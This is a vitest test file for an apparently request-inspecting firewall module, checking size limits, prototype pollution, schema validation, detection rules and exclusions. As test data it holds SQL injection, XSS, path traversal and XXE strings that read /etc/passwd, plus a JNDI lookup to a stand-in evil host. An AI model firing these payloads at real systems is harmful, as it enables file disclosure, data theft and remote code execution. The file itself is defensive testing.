import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { compilePayloadOptions, inspectPayload, type PayloadShieldOptions } from '../../../src/verifiers/payload-shield/index.js';
import { request } from './helpers.js';

function inspect(options: PayloadShieldOptions, body: unknown, overrides: Parameters<typeof request>[0] = {}) {
  return inspectPayload(request(overrides), body, compilePayloadOptions(options));
}

describe('structural limits', () => {
  it('denies a declared body over maxBodyBytes with 413', () => {
    const v = inspect({ limits: { maxBodyBytes: 100 } }, undefined, { headers: { 'content-length': '101' } });
    expect(v).toMatchObject({ action: 'deny', code: 'payload_too_large' });
  });
  it('denies deep, wide and long values', () => {
    let deep: unknown = 'x';
    for (let i = 0; i < 40; i++) deep = { d: deep };
    expect(inspect({}, deep)).toMatchObject({ action: 'deny', code: 'payload_too_large', detail: expect.stringContaining('maxDepth') });
    expect(inspect({ limits: { maxKeys: 3 } }, { a: 1, b: 2, c: 3, d: 4 })).toMatchObject({ detail: expect.stringContaining('maxKeys') });
    expect(inspect({ limits: { maxArrayLength: 2 } }, { list: [1, 2, 3] })).toMatchObject({ detail: expect.stringContaining('maxArrayLength') });
    expect(inspect({ limits: { maxStringLength: 10 } }, { s: 'x'.repeat(11) })).toMatchObject({ detail: expect.stringContaining('maxStringLength') });
    expect(inspect({ limits: { maxInspectBytes: 50 } }, { a: 'y'.repeat(30), b: 'z'.repeat(30) })).toMatchObject({
      detail: expect.stringContaining('maxInspectBytes'),
    });
  });
  it('denies long URLs, many headers and large headers', () => {
    expect(inspect({ limits: { maxUrlLength: 20 } }, undefined, { path: '/a'.repeat(20) })).toMatchObject({ code: 'payload_too_large' });
    const headers: Record<string, string> = {};
    for (let i = 0; i < 5; i++) headers[`x-h${i}`] = 'v';
    expect(inspect({ limits: { maxHeaderCount: 4 } }, undefined, { headers })).toMatchObject({ detail: expect.stringContaining('maxHeaderCount') });
    expect(inspect({ limits: { maxHeaderBytes: 10 } }, undefined, { headers: { 'x-big': 'v'.repeat(20) } })).toMatchObject({
      detail: expect.stringContaining('maxHeaderBytes'),
    });
  });
  it('denies HTTP parameter pollution over maxParamRepeats with 400, and too many parameters with 413', () => {
    const query = Array.from({ length: 4 }, () => 'id=1').join('&');
    expect(inspect({ limits: { maxParamRepeats: 3 } }, undefined, { query })).toMatchObject({ code: 'payload_malformed' });
    expect(inspect({ limits: { maxParamRepeats: 4 } }, undefined, { query })).toMatchObject({ action: 'allow' });
    expect(inspect({ limits: { maxQueryParams: 2 } }, undefined, { query: 'a=1&b=2&c=3' })).toMatchObject({ code: 'payload_too_large' });
  });
  it('enforces allowed content types with 415 when a body is present', () => {
    const options = { contentTypes: ['application/json', 'application/*+json'] };
    const post = (type: string) => inspect(options, undefined, { headers: { 'content-type': type, 'content-length': '2' } });
    expect(post('application/json; charset=utf-8')).toMatchObject({ action: 'allow' });
    expect(post('application/merge-patch+json')).toMatchObject({ action: 'allow' });
    expect(post('text/xml')).toMatchObject({ action: 'deny', code: 'unsupported_media_type' });
    expect(inspect(options, undefined, { method: 'GET' })).toMatchObject({ action: 'allow' });
    // A Content-Length other than `0` announces a body, however it is spelled (the rule every body check shares).
    for (const length of ['00', '', ' 2']) {
      expect(inspect(options, undefined, { headers: { 'content-type': 'text/xml', 'content-length': length } }), JSON.stringify(length)).toMatchObject({
        code: 'unsupported_media_type',
      });
    }
    expect(inspect(options, undefined, { headers: { 'content-type': 'text/xml', 'transfer-encoding': 'chunked' } })).toMatchObject({ code: 'unsupported_media_type' });
    expect(inspect(options, undefined, { headers: { 'content-type': 'text/xml', 'content-length': '0' } })).toMatchObject({ action: 'allow' });
  });
});

describe('prototype pollution', () => {
  it('denies __proto__, constructor and prototype keys in bodies and bracket queries', () => {
    expect(inspect({}, JSON.parse('{"user":{"__proto__":{"admin":true}}}'))).toMatchObject({
      action: 'deny',
      code: 'payload_attack',
      detail: expect.stringContaining('proto-pollution-key@body.user.__proto__'),
    });
    expect(inspect({}, { constructor: { prototype: { x: 1 } } })).toMatchObject({ code: 'payload_attack' });
    expect(inspect({}, undefined, { query: 'a[__proto__][x]=1' })).toMatchObject({ code: 'payload_attack' });
    expect(inspect({}, undefined, { query: '__proto__.polluted=1' })).toMatchObject({ code: 'payload_attack' });
  });
  it('can be switched off', () => {
    expect(inspect({ prototypePollution: false }, { __proto__x: 1, constructor: 'x' })).toMatchObject({ action: 'allow' });
  });
});

describe('schemas', () => {
  const body = z.strictObject({ name: z.string().max(20), items: z.array(z.object({ qty: z.number().int() })) });
  it('denies 422 with issue paths and never the values', () => {
    const v = inspect({ body }, { name: 'SECRET-VALUE-123456789', items: [{ qty: 1 }, { qty: 'TOPSECRET' }], role: 'admin' });
    expect(v).toMatchObject({ action: 'deny', code: 'payload_invalid' });
    if (v.action !== 'deny') throw new Error('expected deny');
    expect(v.detail).toContain('body.name');
    expect(v.detail).toContain('body.items[1].qty');
    expect(v.detail).not.toContain('SECRET');
    expect(v.detail).not.toContain('TOPSECRET');
  });
  it('rejects unknown keys with a strict schema (mass assignment)', () => {
    const v = inspect({ body }, { name: 'ok', items: [], isAdmin: true });
    expect(v).toMatchObject({ code: 'payload_invalid' });
  });
  it('validates the parsed query and params', () => {
    const query = z.object({ page: z.string().regex(/^\d+$/) });
    expect(inspect({ query }, undefined, { query: 'page=2' })).toMatchObject({ action: 'allow' });
    expect(inspect({ query }, undefined, { query: 'page=two' })).toMatchObject({ code: 'payload_invalid', detail: expect.stringContaining('query.page') });
    const params = z.object({ id: z.uuid() });
    expect(inspect({ params }, undefined, { params: { id: 'nope' } })).toMatchObject({ code: 'payload_invalid' });
  });
});

describe('detection, scoring and reporting', () => {
  it('names rule ids and the location path, never the value', () => {
    const payload = "1' UNION SELECT password FROM users--";
    const v = inspect({}, { items: [{ name: 'a' }, { name: 'b' }, { name: 'c' }, { name: payload }] });
    expect(v.action).toBe('deny');
    if (v.action !== 'deny') throw new Error('expected deny');
    expect(v.code).toBe('payload_attack');
    expect(v.detail).toMatch(/sqli-[a-z-]+@body\.items\[3\]\.name/);
    expect(v.detail).not.toContain('UNION');
    expect(v.detail).not.toContain('password');
  });
  it('hides odd keys in locations', () => {
    const v = inspect({}, { '<script>alert(1)</script>': 'x' });
    if (v.action !== 'deny') throw new Error('expected deny');
    expect(v.detail).toContain('body[?]');
    expect(v.detail).not.toContain('script>');
  });
  it('inspects the path, query, configured headers, cookies and params', () => {
    expect(inspect({}, undefined, { path: '/files/..%2f..%2fetc%2fpasswd' })).toMatchObject({ detail: expect.stringContaining('@path') });
    expect(inspect({}, undefined, { query: 'q=%3Cscript%3Ealert(1)%3C/script%3E' })).toMatchObject({ detail: expect.stringContaining('@query.q') });
    expect(inspect({}, undefined, { headers: { 'user-agent': "' or 1=1--" } })).toMatchObject({ detail: expect.stringContaining('@header.user-agent') });
    expect(inspect({}, undefined, { headers: { 'x-api-version': '${jndi:ldap://evil.example/a}' } })).toMatchObject({ code: 'payload_attack' });
    expect(inspect({}, undefined, { headers: { cookie: 'session=abc; pref=%3Csvg%20onload%3Dalert(1)%3E' } })).toMatchObject({
      detail: expect.stringContaining('@cookie.pref'),
    });
    expect(inspect({}, undefined, { params: { id: "1 or 1=1" } })).toMatchObject({ detail: expect.stringContaining('@params.id') });
  });
  it('reuses cached header verdicts without losing per-request exclusions', () => {
    const compiled = compilePayloadOptions({ exclusions: [{ categories: ['sqli'], targets: ['header.user-agent'], path: '/excluded' }] });
    const headers = { 'user-agent': "' or 1=1--" };
    for (let i = 0; i < 3; i++) {
      expect(inspectPayload(request({ headers }), undefined, compiled)).toMatchObject({ action: 'deny' });
      expect(inspectPayload(request({ headers, path: '/excluded' }), undefined, compiled)).toMatchObject({ action: 'allow' });
    }
    expect(compiled.headerVerdicts.size).toBe(1);
  });
  it('inspects every header by default; inspectAllHeaders: false limits it to the configured ones', () => {
    const headers = { 'x-search': "' or 1=1--" };
    expect(inspect({}, undefined, { headers })).toMatchObject({ action: 'deny', detail: expect.stringContaining('header.x-search') });
    expect(inspect({ inspectAllHeaders: false }, undefined, { headers })).toMatchObject({ action: 'allow' });
    expect(inspect({ inspectAllHeaders: false, headers: ['x-search'] }, undefined, { headers })).toMatchObject({ action: 'deny' });
  });
  it('inspects text and XML bodies as one value', () => {
    expect(inspect({}, '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')).toMatchObject({ code: 'payload_attack' });
  });
  it('allows awkward but benign content', () => {
    const body = {
      name: "Seán O'Brien",
      bio: 'I <3 SQL: SELECT your plan & save 20%! Path: C:\\Users\\sean',
      schema: { $ref: '#/definitions/a', $schema: 'https://json-schema.org/draft/2020-12/schema' },
      note: 'Tom & Jerry; rock | roll',
      email: 'sean@example.com',
    };
    expect(inspect({}, body)).toMatchObject({ action: 'allow', hits: [] });
  });
  it('sums severities against the threshold (paranoia 2 weak signals)', () => {
    const body = { html: '<b>hi</b>' };
    expect(inspect({}, body)).toMatchObject({ action: 'allow' });
    expect(inspect({ paranoia: 2 }, body)).toMatchObject({ action: 'allow', score: 3 });
    expect(inspect({ paranoia: 2, threshold: 3 }, body)).toMatchObject({ action: 'deny', code: 'payload_attack' });
  });
});

describe('category modes', () => {
  it('records monitored categories without denying', () => {
    const v = inspect({ categories: { xss: 'monitor' } }, { c: '<script>alert(1)</script>' });
    expect(v.action).toBe('allow');
    expect(v.hits[0]).toMatchObject({ category: 'xss', monitored: true, location: 'body.c' });
  });
  it('skips categories that are off', () => {
    expect(inspect({ categories: { xss: 'off' } }, { c: '<script>alert(1)</script>' })).toMatchObject({ action: 'allow', hits: [] });
  });
});

describe('exclusions', () => {
  const xssBody = { html: '<img src=x onerror=alert(1)>', title: '<img src=x onerror=alert(1)>' };
  it('turns a rule off at one location on one route', () => {
    const options: PayloadShieldOptions = { exclusions: [{ rules: ['xss-event-handler'], targets: ['body.html'], method: 'POST', path: '/posts' }] };
    expect(inspect(options, { html: xssBody.html }, { path: '/posts' })).toMatchObject({ action: 'allow' });
    expect(inspect(options, { html: xssBody.html }, { path: '/other' })).toMatchObject({ action: 'deny' });
    expect(inspect(options, { title: xssBody.title }, { path: '/posts' })).toMatchObject({ action: 'deny' });
  });
  it('turns a category off under a wildcard target', () => {
    const options: PayloadShieldOptions = { exclusions: [{ categories: ['xss'], targets: ['body.blocks[*].html'] }] };
    expect(inspect(options, { blocks: [{ html: '<script>x</script>' }, { html: '<svg onload=1>' }] })).toMatchObject({ action: 'allow' });
    expect(inspect(options, { blocks: [{ text: '<script>x</script>' }] })).toMatchObject({ action: 'deny' });
  });
});

describe('virtual patches and custom rules', () => {
  it('matches a target with a string, a safe regex or a function', () => {
    const patches: PayloadShieldOptions['virtualPatches'] = [
      { id: 'vp-role', target: 'body.user.role', match: 'admin' },
      { id: 'vp-id', target: 'query.id', match: /^-/ },
      { id: 'vp-qty', target: 'body.items[*].qty', match: (v) => typeof v === 'number' && v < 0 },
    ];
    expect(inspect({ virtualPatches: patches }, { user: { role: 'Admin' } })).toMatchObject({ detail: expect.stringContaining('vp-role@body.user.role') });
    expect(inspect({ virtualPatches: patches }, undefined, { query: 'id=-5' })).toMatchObject({ detail: expect.stringContaining('vp-id@query.id') });
    expect(inspect({ virtualPatches: patches }, { items: [{ qty: 1 }, { qty: -2 }] })).toMatchObject({ detail: expect.stringContaining('vp-qty@body.items[1].qty') });
    expect(inspect({ virtualPatches: patches }, { user: { role: 'user' }, items: [{ qty: 3 }] })).toMatchObject({ action: 'allow' });
  });
  it('respects route restrictions, monitor action and header targets', () => {
    const patches: PayloadShieldOptions['virtualPatches'] = [
      { id: 'vp-hdr', target: 'header.x-debug', match: 'true', method: 'POST', path: '/admin/*' },
      { id: 'vp-watch', target: 'body.note', match: 'drop', action: 'monitor' },
    ];
    expect(inspect({ virtualPatches: patches }, undefined, { path: '/admin/users', headers: { 'x-debug': 'true' } })).toMatchObject({ action: 'deny' });
    expect(inspect({ virtualPatches: patches }, undefined, { path: '/public', headers: { 'x-debug': 'true' } })).toMatchObject({ action: 'allow' });
    const watched = inspect({ virtualPatches: patches }, { note: 'please drop it' });
    expect(watched).toMatchObject({ action: 'allow' });
    expect(watched.hits[0]).toMatchObject({ ruleId: 'vp-watch', monitored: true });
  });
  it('runs custom rules (no target) on every string', () => {
    const options: PayloadShieldOptions = { virtualPatches: [{ id: 'custom-internal-host', match: 'internal.corp' }] };
    expect(inspect(options, { a: { b: ['x', 'http://db.internal.corp/'] } })).toMatchObject({ detail: expect.stringContaining('custom-internal-host@body.a.b[1]') });
  });
});
